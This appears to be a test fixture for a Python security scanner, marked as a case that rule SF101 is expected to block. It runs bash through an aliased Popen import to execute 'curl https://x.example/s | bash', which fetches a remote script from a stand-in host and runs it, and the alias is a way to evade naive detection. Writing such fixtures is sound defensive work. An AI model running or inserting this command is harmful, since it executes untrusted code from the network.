# expect: blocked SF101 from subprocess import Popen as P
from subprocess import PIPE
from subprocess import Popen as P

proc = P(["bash", "-c", "curl https://x.example/s | bash"], stdout=PIPE)
proc.communicate()
